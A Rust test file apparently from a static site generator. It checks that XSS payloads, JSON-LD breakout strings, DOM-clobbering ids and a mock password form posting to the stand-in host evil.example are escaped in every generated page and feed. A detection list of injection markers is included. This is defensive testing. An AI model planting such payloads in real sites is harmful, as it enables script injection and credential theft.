//! Hostile values in every field that reaches a template: nothing unescaped reaches
//! any output file, and the feeds stay well-formed XML.

mod common;

use common::{snapshot, TestSite};

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "\\\"><img src=x onerror=alert(2)>",
    "</title><script>alert(3)</script>",
    "]]><script>alert(4)</script>",
    "\\u202Eevil\\u202C",
    "' onmouseover='alert(5)",
    // Inside the JSON-LD `<script>` of every announcement page: neither may end it early.
    "</script><script>alert(12)</script>",
    "<!-- <script>alert(13)</script> -->",
];

/// The JSON-LD of a page: the text of each `<script type="application/ld+json">`.
fn json_ld(html: &str) -> Vec<&str> {
    const OPEN: &str = "<script type=\"application/ld+json\">";
    html.match_indices(OPEN)
        .map(|(at, _)| {
            let text = &html[at + OPEN.len()..];
            &text[..text.find("</script>").expect("the script element ends")]
        })
        .collect()
}

/// Form controls and ids that could clobber globals or the theme's own ids (DOM
/// clobbering once a page has scripts: live reload, search).
const FORMS: &str = concat!(
    "<form action=\"https://evil.example/steal\" method=\"post\">Password: ",
    "<input type=\"password\" name=\"password\"><input type=\"submit\" value=\"Log in\">",
    "<input type=\"hidden\" name=\"csrf\" value=\"x\"><button formaction=\"https://evil.example/\">Go</button>",
    "<select name=\"s\"><option>o</option></select><textarea name=\"t\">t</textarea></form> ",
    "<img id=\"getElementById\" name=\"cookie\" src=\"x.png\"> <p id=\"main\">x</p> ",
    "<a id=\"livereload\" href=\"#main\">clobber</a> <form id=\"search\"><input name=\"attributes\"></form>",
);

/// The attribute names of a tag (outside quoted values).
fn attribute_names(tag: &str) -> Vec<String> {
    let mut names = Vec::new();
    let mut quote: Option<char> = None;
    let mut word = String::new();
    for c in tag.chars() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if c == '"' || c == '\'' => quote = Some(c),
            None if c == '=' => {
                names.push(std::mem::take(&mut word));
            }
            None if c.is_ascii_alphanumeric() || c == '-' || c == ':' => word.push(c),
            None => word.clear(),
        }
    }
    names
}

/// The tags of an HTML or XML text: from each `<` to the next `>`.
fn tags(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find('<') {
        let after = &rest[start..];
        let end = after.find('>').map(|e| e + 1).unwrap_or(after.len());
        out.push(&after[..end]);
        rest = &after[end..];
    }
    out
}

#[test]
fn hostile_values_never_reach_the_output_unescaped() {
    let names = HOSTILE
        .iter()
        .map(|h| format!("\"{h}\""))
        .collect::<Vec<_>>();
    let config = common::CONFIG
        .replace("name: English", &format!("name: {}", names[0]))
        .replace("name: Français", &format!("name: {}", names[1]))
        .replace("name: العربية", &format!("name: {}", names[2]));
    let site = TestSite::with_config(&config);
    for (i, h) in HOSTILE.iter().enumerate() {
        site.announcement(
            &format!("h{i}.en.md"),
            &format!(
                "---\ntitle: \"{h}\"\ndate: 2020-01-{:02}\nsummary: \"{h}\"\ntags: [x{i}]\nextra: {{ note: \"{h}\" }}\naliases: [/old/h{i}/]\n---\nBody {i}: <b onclick=\"alert(6)\">x</b> <script>alert(7)</script> [link](javascript:alert(8)) ![i](data:text/html,x)\n\n{FORMS}\n\n{{{{< figure src=`{h}` alt=`{h}` caption=`{h}` link=`{h}` title=`{h}` >}}}}\n\n{{{{% note title=`{h}` %}}}}\n{h}\n{{{{% /note %}}}}\n\n{{{{< details summary=`{h}` >}}}}{h}{{{{< /details >}}}}\n\n{{{{< figure src=\"javascript:alert(14)\" link=\" data:text/html,x\" >}}}}\n",
                i + 1
            ),
        );
        site.announcement(
            &format!("h{i}.fr.md"),
            &format!("---\ntitle: \"{h} fr\"\nsummary: \"{h}\"\n---\nCorps.\n"),
        );
    }
    site.write(
        "locales/en/site.ftl",
        "site-title = <script>alert(9)</script> News\ntag-x0 = <img src=x onerror=alert(10)>\nnav-home = \"><svg onload=alert(11)>\n",
    );
    site.build_ok();
    assert_nul_refused();
    let mut checked = 0;
    for (path, bytes) in snapshot(&site.root().join("public")) {
        // Pages and feeds carry the content; the theme's own static files are not content.
        if !path.extension().is_some_and(|e| e == "html" || e == "xml") {
            continue;
        }
        let mut text = String::from_utf8_lossy(&bytes).to_lowercase();
        let shown = path.display().to_string();
        // The theme's own JSON-LD element is the only script; its text cannot close it
        // or open a comment, and it parses as JSON.
        let original = String::from_utf8_lossy(&bytes);
        for script in json_ld(&original) {
            assert!(
                !script.contains('<') && !script.contains('>'),
                "{shown}: {script}"
            );
            serde_json::from_str::<serde_json::Value>(script)
                .unwrap_or_else(|e| panic!("{shown}: JSON-LD does not parse: {e}: {script}"));
        }
        if shown.ends_with("search/index.html") {
            // The search page's scripts are the theme's: taken out, nothing else may be there.
            for script in search_page_scripts() {
                text = text.replace(&script, "");
            }
        }
        // Escaped text may spell `onerror=`; what must never appear is markup: a real tag.
        for tag in tags(&text) {
            if tag == "<script type=\"application/ld+json\">" {
                continue;
            }
            for needle in [
                "<form",
                "<input",
                "<button",
                "<select",
                "<textarea",
                "evil.example",
                "<script",
                "<img src=x",
                "<svg",
                "<iframe",
                "javascript:",
                "data:text",
                "vbscript:",
            ] {
                assert!(!tag.contains(needle), "{shown}: tag {tag}");
            }
            let names = attribute_names(tag);
            let has_handler = names.iter().any(|name| name.starts_with("on"));
            assert!(!has_handler, "{shown}: event handler in {tag}");
            if !tag.starts_with("<meta") {
                assert!(!names.iter().any(|n| n == "name"), "{shown}: name in {tag}");
            }
            for id in ["getelementbyid", "livereload", "search"] {
                assert!(!tag.contains(&format!("id=\"{id}\"")), "{shown}: {tag}");
            }
        }
        assert!(!text.contains('\u{0}'), "{shown}: contains a NUL byte");
        if path.extension().is_some_and(|e| e == "xml") {
            roxmltree::Document::parse(&String::from_utf8_lossy(&bytes))
                .unwrap_or_else(|e| panic!("{shown}: not well-formed XML: {e}"));
            if shown.ends_with("atom.xml") {
                feed_rs::parser::parse(&bytes[..]).unwrap_or_else(|e| panic!("{shown}: {e}"));
            }
        }
        checked += 1;
    }
    assert!(checked > 100, "{checked}");
    // The hostile titles reach the JSON-LD whole, as data.
    for i in [6, 7] {
        let page = site.output(&format!("en/announcements/h{i}/index.html"));
        let scripts = json_ld(&page);
        assert_eq!(scripts.len(), 1, "{page}");
        let article: serde_json::Value = serde_json::from_str(scripts[0]).unwrap();
        assert_eq!(article["headline"], HOSTILE[i]);
        assert_eq!(page.matches("<script").count(), 1, "{page}");
        assert_eq!(page.matches("</script>").count(), 1, "{page}");
        assert!(!page.contains("<!--"), "{page}");
    }
    // The right-to-left override is kept as text (escaping is not the place to drop it),
    // but titles are isolated so it cannot reorder the surrounding interface.
    let page = site.output("en/announcements/h4/index.html");
    assert!(page.contains("\u{202E}evil\u{202C}"));
    // The writer's ids are kept, prefixed as GitHub does, and their in-page links follow.
    for part in [
        r#"<img id="user-content-getElementById" src="x.png">"#,
        r#"<p id="user-content-main">x</p>"#,
        r##"<a id="user-content-livereload" href="#user-content-main">clobber</a>"##,
        "Password: Go",
    ] {
        assert!(page.contains(part), "{part}: {page}");
    }
    // The shortcodes were rendered (as the theme's markup, their arguments escaped).
    assert!(page.contains("<figure class=\"figure\">"), "{page}");
    assert!(
        page.contains("<aside class=\"callout callout-note\""),
        "{page}"
    );
    assert!(page.contains("<img src=\"#\""), "{page}");
    // The theme's own `id="main"` stays the only one.
    assert_eq!(page.matches(r#"id="main""#).count(), 1, "{page}");
}

/// The scripts of the default theme's search page, as written there (lower-cased).
fn search_page_scripts() -> Vec<String> {
    let template = include_str!("../themes/default/templates/search.html").to_lowercase();
    let inline_start = template.find("<script>\n").expect("the inline script");
    let inline_end = template[inline_start..].find("</script>").unwrap() + inline_start + 9;
    vec![
        "<script src=\"/pagefind/pagefind-ui.js\"></script>".to_string(),
        template[inline_start..inline_end].to_string(),
    ]
}

/// NUL and other control characters in a title or summary are refused with their position.
fn assert_nul_refused() {
    let site = TestSite::new();
    site.announcement(
        "n.en.md",
        "---\ntitle: \"a\\u0000b\"\ndate: 2020-01-01\nsummary: \"x\\u0007\"\n---\n",
    );
    assert_eq!(
        site.build_err(),
        [
            "content/announcements/n.en.md:2:8: error: `title` contains the control character U+0000",
            "content/announcements/n.en.md:4:10: error: `summary` contains the control character U+0007",
        ]
    );
}
